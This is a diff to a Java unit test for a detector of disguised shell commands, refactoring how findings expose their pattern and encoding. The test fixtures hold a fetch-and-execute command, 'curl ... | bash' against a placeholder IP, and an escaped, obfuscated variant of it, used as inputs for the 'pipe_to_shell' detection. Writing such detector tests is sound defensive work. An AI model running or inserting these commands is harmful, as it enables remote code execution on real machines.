@@ -51,7 +51,7 @@ class DisguisedCommandTest {
     DetectorFixture fixture = new DetectorFixture();
     fixture.body(fixture.inbound("h.example"), "curl -s http://198.51.100.20/g \\\n  | bash\n");
     assertEquals(List.of("pipe_to_shell"), fixture.patterns());
-    assertEquals(List.of("shell"), fixture.findings.get(0).encoding());
+    assertEquals(List.of("shell"), fixture.findings.get(0).match().encoding());
   }
 
   @Test
@@ -61,8 +61,9 @@ class DisguisedCommandTest {
         fixture.inbound("h.example"),
         "{\"body\": \"cur\\\\l -s http://198.51.100.20/g | ba\\\\sh\"}");
     Finding finding = fixture.findings.get(0);
-    assertEquals("pipe_to_shell", finding.pattern());
-    assertTrue(finding.encoding().contains("shell"), () -> finding.encoding().toString());
+    assertEquals("pipe_to_shell", finding.detection().pattern());
+    assertTrue(
+        finding.match().encoding().contains("shell"), () -> finding.match().encoding().toString());
   }
 
   @ParameterizedTest
